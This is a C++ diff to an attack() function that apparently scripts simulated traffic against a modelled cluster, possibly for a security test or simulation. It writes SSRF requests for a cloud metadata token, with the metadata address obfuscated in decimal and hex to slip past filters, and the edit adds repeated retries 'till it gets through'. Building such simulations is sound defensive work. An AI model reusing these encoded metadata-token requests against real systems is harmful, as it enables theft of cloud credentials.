@@ -77,7 +77,8 @@ std::string attack(const World& w, uint32_t cluster) {
                       kIngressPort, ip_text(attacker_of(w)), percent(url), post.empty() ? "" : "&post=" + percent(post));
     };
     line("start=0.5", fmt::format("http://{}{}", kMetadataAddress, kToken), "");
-    line("start=1", fmt::format("http://2852039166{}", kToken), "");  // the same address as one number
+    line("start=1 every=6..9 count=3", fmt::format("http://2852039166{}", kToken),
+         "");  // the same address as one number, till it gets through
     line("start=1.5 every=4..8 count=0", fmt::format("http://0xA9FEA9FE{}", kToken), taker);
     line("start=2 every=1..2.5 count=0", fmt::format("https://{}/bytes/{}", vault, 400'000 + node % 1000 * 700), taker);
   }
